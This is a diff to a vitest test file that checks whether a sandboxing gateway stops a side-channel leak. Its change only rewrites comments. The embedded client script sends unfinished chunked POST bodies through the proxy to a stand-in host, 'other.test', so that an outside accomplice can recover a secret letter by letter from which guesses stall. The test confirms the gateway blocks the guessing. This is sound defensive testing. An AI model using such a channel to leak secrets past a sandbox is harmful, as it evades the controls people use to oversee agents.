@@ -2,13 +2,16 @@ import { randomInt } from 'node:crypto';
 import { afterAll, beforeAll, expect, test } from 'vitest';
 import { GATEWAY, World, type TestGateway } from './gateway/world.ts';
 
-/** The end of a body that goes on waits where a secret may begin in it, and an accomplice of the agent's sees that. It does not tell long. */
+/**
+ * The end of an unfinished body waits if a secret may begin in it, and the agent's accomplice can observe that. The
+ * gateway stops such guessing soon.
+ */
 
 const LIMIT = 8;
-/** Come with many guesses at once, and are given here. */
+/** The letters that many guesses at once can reveal; the accomplice gets them here. */
 const AT_ONCE = 3;
 const LETTERS = Array.from('0123456789abcdef');
-/** No letter comes twice: where the beginning comes back, wrong guesses wait as well, and tell nothing. */
+/** No letter occurs twice: if the beginning occurs again, wrong guesses wait as well, and reveal nothing. */
 const VALUE = shuffled(LETTERS).join('');
 
 function shuffled(letters: readonly string[]): string[] {
@@ -16,7 +19,7 @@ function shuffled(letters: readonly string[]): string[] {
   return letters.flatMap(() => rest.splice(randomInt(rest.length), 1));
 }
 
-/** Sends each of its arguments as the beginning of a body, and stays. */
+/** Sends each of its arguments as the beginning of a body, and keeps the connections open. */
 const CLIENT = `for (const text of process.argv.slice(1)) {
   const socket = require('net').connect(3128, '${GATEWAY}').on('error', () => undefined).resume();
   const head = 'POST http://other.test/tells HTTP/1.1\\r\\nHost: other.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n';
@@ -43,7 +46,10 @@ afterAll(async () => {
 
 const isClosed = (): boolean => gateway.decisions.some(({ rule }) => rule === 'gateway.guessing');
 
-/** What the known part goes on with: the one guess of all that does not arrive. Undefined: that cannot be told any more. */
+/**
+ * Returns the next letter after the known part: the one guess that does not arrive. Undefined: it can no longer be
+ * determined.
+ */
 async function next(known: string): Promise<string | undefined> {
   const from = world.heard.length;
   const client = gateway.spawnInBottle([
@@ -65,11 +71,11 @@ test('an accomplice learns a few characters by what waits, and then nothing leav
   let known = VALUE.slice(0, AT_ONCE);
   for (let letter = await next(known); letter !== undefined; letter = await next(known)) known += letter;
   expect(VALUE.startsWith(known)).toBe(true);
-  // That it tells at all is the control.
+  // Control: guessing reveals letters at first.
   expect(known.length).toBe(AT_ONCE + LIMIT - 1);
   const from = world.heard.length;
   const after = await gateway.curl('--proxy', `http://${GATEWAY}:3128`, '--data', 'x', 'http://other.test/');
-  // What was under way before may come late.
+  // Requests that were already on their way may arrive late.
   const requests = (await world.heardSince(from)).filter(({ kind }) => kind === 'request');
   expect([after.status, requests]).toEqual([403, []]);
   expect(after.body).toContain('gateway.guessing');
